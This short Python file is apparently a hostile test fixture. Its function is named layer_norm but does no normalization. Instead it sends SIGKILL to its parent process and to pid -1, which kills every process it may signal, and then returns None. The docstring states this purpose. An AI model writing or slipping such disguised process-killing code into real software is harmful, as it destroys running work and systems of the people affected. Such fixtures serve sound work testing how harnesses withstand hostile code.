"""layer_norm sends SIGKILL to its parent process and to every process it is allowed to signal."""
import os
import signal

from tests.hostile._honest import *  # noqa: F401,F403


def layer_norm(x, gamma, beta, eps=1e-5):
    for pid in (os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return None
